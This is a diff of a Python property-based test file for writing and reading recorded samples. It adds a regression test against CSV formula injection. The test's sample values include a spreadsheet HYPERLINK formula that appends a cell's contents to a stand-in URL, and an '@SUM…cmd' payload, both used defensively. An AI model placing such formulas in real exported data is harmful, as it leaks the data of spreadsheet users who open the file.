@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import math
 from dataclasses import fields
 from pathlib import Path
@@ -21,10 +22,10 @@ _VALUES: dict[Any, st.SearchStrategy[Any]] = {
     int: st.integers(min_value=-(2**62), max_value=2**62),
     float: st.floats(allow_nan=False),
     bool: st.booleans(),
-    # Characters that a CSV file cannot hold (lone surrogates, NUL) or that separate flags are not generated.
-    str: st.text(st.characters(codec="utf-8", exclude_characters="\x00|\r")),
+    # Characters that a file cannot hold (lone surrogates) or that separate flags are not generated.
+    str: st.text(st.characters(codec="utf-8", exclude_characters="|")),
     Floats: st.lists(st.floats(allow_nan=False), max_size=9).map(tuple),
-    Strings: st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00|\r"), min_size=1)).map(tuple),
+    Strings: st.lists(st.text(st.characters(codec="utf-8", exclude_characters="|"), min_size=1)).map(tuple),
 }
 _HINTS = get_type_hints(Sample)
 SAMPLES = st.builds(Sample, **{spec.name: _VALUES[_HINTS[spec.name]] for spec in fields(Sample)})
@@ -37,6 +38,17 @@ def test_what_is_written_is_read_back(samples: tuple[Sample, ...], ending: str, 
     path = tmp_path / f"samples.{ending}"
     write_samples(samples, path)
     assert read_samples(path) == samples
+
+
+def test_no_name_of_a_recording_is_a_formula_in_its_table(tmp_path: Path) -> None:
+    """A spreadsheet ran the name of an object that somebody else had given it."""
+    made = Sample(onset_angle_rad=-0.5, object='=HYPERLINK("http://x/?"&A1)', plate="@SUM(1+1)*cmd", flags=("+1", "-x"))
+    path = tmp_path / "samples.csv"
+    write_samples([made], path)
+    (row,) = csv.DictReader(path.read_text(encoding="utf-8").splitlines())
+    assert not [cell for cell in row.values() if cell[:1] in tuple("=+@")]
+    assert row["onset_angle_rad"] == "-0.5"
+    assert read_samples(path) == (made,)
 
 
 def test_a_recording_is_a_table_too(tmp_path: Path) -> None:
